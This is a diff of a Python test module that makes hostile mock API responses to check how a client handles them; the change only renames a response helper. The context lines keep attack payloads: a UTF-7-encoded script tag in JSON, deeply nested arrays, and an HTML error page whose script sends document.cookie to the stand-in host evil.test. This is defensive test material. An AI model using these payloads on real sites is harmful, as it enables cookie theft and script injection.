@@ -5,7 +5,7 @@ from __future__ import annotations
 import json
 
 from tests.attacks.model import BASE64_CASE, Request, attack, attack_rows, items, ok, refusal, urls
-from tests.hostile import whole
+from tests.hostile import honest_answer
 
 attack_rows({
     "deep-arrays": ("A hundred thousand arrays, one in the other, run through the stack.",
@@ -59,7 +59,7 @@ attack_rows({
 def utf_7_and_a_mark(request: Request) -> bytes:
     """A byte order mark, and a charset in which `<` is written with letters alone."""
     body = b'\xef\xbb\xbf{"created":1,"data":[{"revised_prompt":"+ADw-script+AD4-"}]}'
-    return whole(body, "Content-Type: application/json; charset=utf-7")
+    return honest_answer(body, "Content-Type: application/json; charset=utf-7")
 
 
 attack_rows({
@@ -138,7 +138,7 @@ attack_rows({
 def error_page(request: Request) -> bytes:
     """A page of HTML in place of an error, with a script."""
     page = b"<!DOCTYPE html><script>fetch('http://evil.test/'+document.cookie)</script>"
-    return whole(page, "Content-Type: text/html", status="400 Bad Request")
+    return honest_answer(page, "Content-Type: text/html", status="400 Bad Request")
 
 
 @attack("fail")
